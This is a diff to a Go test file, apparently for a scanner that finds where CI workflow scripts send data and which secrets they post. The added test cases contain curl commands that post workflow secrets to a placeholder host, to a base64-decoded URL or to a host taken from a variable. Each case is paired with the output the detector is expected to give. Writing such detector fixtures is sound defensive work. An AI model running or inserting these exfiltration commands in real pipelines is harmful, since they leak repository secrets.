@@ -104,6 +104,11 @@ func TestDestinations(t *testing.T) {
 		"only named":             {"echo curl https://a.example.invalid\napt-get install -y curl wget", ""},
 		"comment":                {"# curl https://a.example.invalid\ntrue", ""},
 		"computed host":          {"curl https://$(cat host)/x", ""},
+		"sent to a computed URL": {`curl -d A=${{ secrets.A }} $(base64 -d u)`, ":curl:secrets=A:posted=A:named=A"},
+		"to a variable's host":   {`curl -d A=${{ secrets.A }} https://${{ vars.H }}/x`, ":curl:secrets=A:posted=A:named=A"},
+		"with a fallback":        {`curl -d "A=${{ secrets.A || '' }}" https://a.example.invalid`, "a.example.invalid:curl:secrets=A:posted=A:named=A"},
+		"by format":              {`curl -d "${{ format('A={0}&x={1}', secrets.A, secrets.B) }}" https://a.example.invalid`, "a.example.invalid:curl:secrets=A,B:posted=A,B:named=A"},
+		"named in the query":     {`curl "https://a.example.invalid/?A=${{ secrets.A }}"`, "a.example.invalid:curl:secrets=A:posted=A:named=A"},
 		"userinfo":               {"curl https://me:x@A.Example.Invalid:8443/", "a.example.invalid:curl:secrets=:posted=:named="},
 		"IPv6":                   {"curl 'http://[2001:db8::1]:80/'", "2001:db8::1:curl:secrets=:posted=:named="},
 	} {
@@ -313,7 +318,7 @@ func FuzzParse(f *testing.F) {
 			}
 		}
 		for _, d := range got.Destinations {
-			if d.Line < 1 || d.Line > lines || d.Host == "" {
+			if d.Line < 1 || d.Line > lines || d.Computed != (d.Host == "") {
 				t.Errorf("destination outside the file: %+v", d)
 			}
 		}
